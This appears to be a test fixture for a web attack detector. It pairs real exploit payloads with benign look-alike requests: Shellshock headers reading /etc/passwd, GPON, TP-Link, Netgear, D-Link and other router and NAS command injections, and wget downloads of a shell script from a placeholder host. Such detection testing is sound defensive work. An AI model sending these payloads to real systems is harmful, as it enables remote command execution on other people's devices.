import { type Proof, agent, get, post, proof } from '../sketch.ts'

const form = { contentType: 'application/x-www-form-urlencoded' }

/** Commands of a shell. */
export const shells: readonly Proof[] = [
  proof('shellshock', agent('() { ignored; }; echo; /bin/cat /etc/passwd'), agent('f() { ignored; }; x')),
  proof('shellshock', agent('() { _; } >_[$($())] { id; }'), agent('Mozilla/5.0 () like {x}')),
  proof(
    'shellshock',
    get('/', { headers: { 'X-Y': '() { foo:;};/bin/id;' } }),
    get('/', { headers: { 'X-Y': '() => { foo }' } }),
  ),
  proof('shellshock', get('/', { cookies: 'a=() { x; }; id;' }), get('/', { cookies: 'a=() { x' })),
  proof('shellshock', agent('%28%29%20%7B%20x%3B%20%7D%3B%20id%3B'), agent('%28%29%20%7B%20x')),
  proof(
    'gpon-rce',
    post('/GponForm/diag%5fForm?images/', 'dest_host=%60busybox%20wget%20http%3a%2f%2f198.51.100.7%60', form),
    post('/GponForm/diag%5fForm?images/', 'dest_host=198.51.100.7', form),
  ),
  proof('gpon-auth-bypass', post('/GponForm/diag_Form?%69mages/', 'x'), post('/GponForm/diag_Form', 'x')),
  proof(
    'tp-link-archer-rce',
    [
      get('/cgi-bin/luci/%3bstok%3d/%6cocale?form=country&operation=write&country=%24%28id%29'),
      get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&c%6funtry=%2560id%2560'),
    ],
    get('/cgi-bin/luci/%3bstok%3d/%6cocale?form=country&operation=write&country=%44E'),
  ),
  proof(
    'shell-downloader',
    get('/x?c=cd%2520%252ftmp%253b%2577get%2520http://198.51.100.7/x.sh'),
    get('/x?c=cd%2520%252fhome'),
  ),
  proof('jaws-dvr-shell', get('/%73hell?cd%20%2ftmp%3brm'), get('/%73hell?cd%20/home')),
  proof(
    'pan-os-command-injection',
    get('/global-protect/login.esp', { cookies: 'SESSID=%2e%2e%2f%2e%2e%2fx' }),
    get('/global-protect/login.esp', { cookies: 'SESSID=%2ex' }),
  ),
  proof(
    'netgear-setup-rce',
    get('/setup%2ecgi?next_file=x&tod%6f=sysc%6dd&cmd=id'),
    get('/setup%2ecgi?tod%6f=save'),
  ),
  proof(
    'linear-emerge-rce',
    get('/card_scan.php?No=30&ReaderNo=%2560id%2560'),
    get('/card_scan.php?No=30&ReaderNo=%31'),
  ),
  proof(
    'dlink-nas-rce',
    get('/cgi-bin/nas%5fsharing.cgi?user=x&cmd=%31%35&s%79stem=aWQ='),
    get('/cgi-bin/nas%5fsharing.cgi?user=x&cmd=%31'),
  ),
]
